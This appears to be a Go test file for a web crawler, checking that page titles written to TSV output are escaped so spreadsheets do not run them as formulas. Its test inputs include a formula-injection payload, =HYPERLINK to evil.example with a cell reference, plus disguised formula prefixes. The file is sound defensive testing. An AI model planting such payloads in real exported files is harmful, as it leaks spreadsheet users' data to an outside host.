package event

import (
	"strings"
	"testing"
	"time"

	"pgregory.net/rapid"

	"github.com/waggle-crawler/waggle/web"
)

// A title that a spreadsheet would run is text in the harvest, whatever stands
// before it; numbers stay numbers.
func TestHarvestHoldsNoFormula(t *testing.T) {
	u, err := web.Parse("https://a.example/=1+1")
	if err != nil {
		t.Fatal(err)
	}
	for title, want := range map[string]string{
		"=HYPERLINK(\"http://evil.example/?\"&A1)": "'=HYPERLINK(\"http://evil.example/?\"&A1)",
		"+1": "'+1", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "＝1+1": "'＝1+1",
		"\t=1": "'=1", "\r\n =1": "'=1", "\x1b=1": "'=1", "\u200b=1": "'=1",
		"\"=1+1\"": "'\"=1+1\"", "\"Bees": "'\"Bees", "the \"dance\"": "the \"dance\"",
		"1 = 1": "1 = 1", "a-b": "a-b", "'=1": "'=1", "": "",
	} {
		var h Harvest
		h.Add(Fetched{At: At{time.Unix(0, 0)}, Visit: Visit{URL: u}, Title: title, Relevance: 0.5, Relevant: true})
		var b strings.Builder
		if err := h.WriteTSV(&b); err != nil {
			t.Fatal(err)
		}
		if want := "0.5000\thttps://a.example/=1+1\t" + want + "\t0\t\t1970-01-01T00:00:00Z\n"; !strings.HasSuffix(b.String(), "\n"+want) {
			t.Errorf("%q: %q, want %q", title, b.String(), want)
		}
	}
}

// No cell begins as a formula does, and a harmless one is left as it is.
func TestCellProperty(t *testing.T) {
	rapid.Check(t, func(t *rapid.T) {
		s := rapid.String().Draw(t, "text")
		c := Cell(s)
		if c != "" && strings.ContainsAny(c[:1], "=+-@\"\t\r\n") || strings.ContainsAny(c, "\t\r\n") {
			t.Fatalf("%q → %q", s, c)
		}
		if c != Line(s) && c != "'"+Line(s) || Cell(c) != c {
			t.Fatalf("%q → %q → %q", s, c, Cell(c))
		}
	})
}
